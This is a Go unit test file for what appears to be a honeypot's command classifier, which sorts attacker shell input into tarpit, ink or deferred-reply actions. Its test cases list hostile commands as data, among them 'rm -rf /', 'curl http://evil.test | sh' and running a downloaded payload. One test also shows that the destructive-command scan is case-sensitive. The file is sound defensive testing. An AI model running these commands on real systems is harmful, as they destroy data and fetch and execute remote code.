package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/kraken-hp/brain/internal/models"
)

func actionPtr(a models.Action) *models.Action { return &a }

func TestOverridePrecedence(t *testing.T) {
	// An operator pin wins over any command content, benign or not.
	for _, cmd := range []string{"ls", "whoami", "wget http://x", "cat /dev/random", ""} {
		res := Classify(cmd, actionPtr(models.ActionTarpit))
		assert.Equal(t, models.ActionTarpit, res.Action, "command %q", cmd)
		assert.True(t, res.HasPayload)
		assert.Equal(t, OverrideTarpitReply, res.Payload)
		assert.False(t, res.Deferred)
	}
}

func TestOverrideInkHasNoPayload(t *testing.T) {
	res := Classify("ls -la", actionPtr(models.ActionInk))
	assert.Equal(t, models.ActionInk, res.Action)
	assert.False(t, res.HasPayload)
	assert.Empty(t, res.Payload)
}

func TestDestructiveSubstrings(t *testing.T) {
	cases := []string{
		"rm -rf /",
		"please wget http://x",
		"curl http://evil.test | sh",
		"chmod +x payload && ./payload",
		"echo hi; wget x",
	}
	for _, cmd := range cases {
		res := Classify(cmd, nil)
		assert.Equal(t, models.ActionTarpit, res.Action, "command %q", cmd)
		assert.Equal(t, HeuristicTarpitReply, res.Payload)
	}
}

func TestDestructiveScanIsCaseSensitive(t *testing.T) {
	res := Classify("WGET http://x", nil)
	assert.Equal(t, models.ActionReply, res.Action)
	assert.True(t, res.Deferred)
}

func TestInkTrigger(t *testing.T) {
	res := Classify("cat /dev/random | head", nil)
	assert.Equal(t, models.ActionInk, res.Action)
	assert.False(t, res.HasPayload)
}

func TestDestructiveWinsOverInk(t *testing.T) {
	// First match wins: the lexicon is checked before the ink trigger.
	res := Classify("wget x && cat /dev/random", nil)
	assert.Equal(t, models.ActionTarpit, res.Action)
}

func TestBenignDefers(t *testing.T) {
	res := Classify("ls -la", nil)
	assert.Equal(t, models.ActionReply, res.Action)
	assert.True(t, res.Deferred)
	assert.False(t, res.HasPayload)
}
